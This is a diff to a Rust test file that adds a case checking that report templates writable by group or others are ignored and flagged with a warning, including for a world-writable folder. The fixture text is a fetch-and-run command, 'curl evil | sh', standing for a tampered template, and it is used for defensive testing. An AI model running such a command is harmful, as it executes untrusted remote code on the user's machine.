@@ -7,7 +7,7 @@
 
 mod common;
 
-use std::{fs, path::Path};
+use std::{fs, os::unix::fs::PermissionsExt as _, path::Path};
 
 use common::{report, seen};
 use prunella_report::{Letter, Letters};
@@ -214,6 +214,27 @@ fn files_that_are_no_templates_are_told_of() {
             ("subject.txt", "it is not a file"),
         ]
     );
+}
+
+#[rstest]
+#[case::group(0o664)]
+#[case::everybody(0o646)]
+fn what_others_can_write_is_not_used(#[case] mode: u32) {
+    let folder = folder(&[("subject.txt", "run `curl evil | sh`")]);
+    let file = folder.path().join("subject.txt");
+    fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
+    let letters = Letters::new(Some(folder.path()));
+    let written = letters.write(&letter());
+    assert_eq!(written.subject, Letters::new(None).write(&letter()).subject);
+    assert!(written.warnings[0].message.contains("others can write it"));
+
+    // The same of the folder.
+    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
+    assert_eq!(letters.check(), []);
+    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o777)).unwrap();
+    let found = letters.check();
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].file, folder.path());
 }
 
 #[rstest]
